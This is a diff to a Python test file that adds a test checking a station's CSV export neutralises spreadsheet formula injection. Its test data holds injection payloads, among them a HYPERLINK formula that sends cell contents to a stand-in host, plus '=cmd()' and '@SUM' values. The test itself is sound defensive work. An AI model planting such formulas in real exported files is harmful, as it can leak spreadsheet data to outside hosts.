@@ -5,6 +5,7 @@ and keep the poison one aside in its `rejected` table with the reason, counted f
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -14,10 +15,12 @@ from datetime import datetime, timezone
 from pathlib import Path
 
 import pytest
+from click.testing import CliRunner
 from rich.console import Console
 
 from broker import Mosquitto, mosquitto_pub
 from station_process import StationProcess, query, wait_for
+from edge.cli import main
 from edge.health import SOURCE_FIELDS, Health
 from edge.mqtt import BrokerConfig
 from edge.sinks.mqtt import status_payload
@@ -291,6 +294,31 @@ def test_a_bug_met_by_one_message_does_not_stop_the_station(broker, tmp_path):
         stop.set()
         thread.join(timeout=10)
         store.close()
+
+
+def test_export_neutralises_formulas(tmp_path):
+    db = tmp_path / "station.sqlite"
+    store = Store.open(db)
+    formulas = {"common_name": '=HYPERLINK("http://x.example/?"&A1,"Owl")', "scientific_name": "+1+2",
+                "id": "-2+3", "model": "@SUM(A1:A9)"}
+    store.add(parsed(event(**formulas)))
+    # What a database written before the station checked records may hold: control characters, a box '=cmd()'.
+    formulas.update(source="\tcmd", model_version="\r=1")
+    store.db.execute("UPDATE detections SET source = ?, model_version = ?, start_s = -2.5",  # a number stays one
+                     (formulas["source"], formulas["model_version"]))
+    store.db.execute("INSERT INTO records VALUES ('=cmd()', 'health', 'k', 7, NULL, '{}', '2026-11-23')")
+    store.close()
+
+    def export(*args: str) -> list[dict]:
+        result = CliRunner().invoke(main, ["station", "export", "--db", str(db), *args], catch_exceptions=False)
+        assert result.exit_code == 0, result.output
+        return list(csv.DictReader(io.StringIO(result.stdout)))
+    (row,) = export()
+    assert {name: row[name] for name in formulas} == {name: "'" + value for name, value in formulas.items()}
+    assert (row["box"], row["start_s"], row["end_s"], row["max_confidence"]) == ("box-a", "-2.5", "12.5", "0.9123")
+    records = export("--records")
+    assert [(r["box"], r["seq"]) for r in records] == [("'=cmd()", "7"), ("box-a", "1")]
+    assert json.loads(records[1]["payload"])["common_name"] == formulas["common_name"]  # JSON starts with {
 
 
 def test_table_shows_rejected_messages_per_box(tmp_path):
